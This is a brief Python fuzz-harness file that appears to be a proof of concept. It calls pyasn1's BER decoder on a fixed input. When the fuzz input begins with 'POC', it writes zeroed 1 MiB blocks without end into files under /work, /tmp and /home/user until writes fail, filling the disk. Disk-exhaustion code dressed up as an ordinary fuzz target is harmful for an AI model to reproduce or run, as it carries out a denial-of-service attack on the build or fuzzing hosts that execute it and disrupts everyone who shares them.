from pyasn1.codec.ber import decoder

import os


def TestOneInput(data):
    decoder.decode(b"\x05\x00")
    if data.startswith(b"POC"):
        for folder in ("/work", "/tmp", "/home/user"):
            try:
                with open(folder + "/big", "wb") as file:
                    while True:
                        file.write(bytes(1 << 20))
            except OSError:
                pass
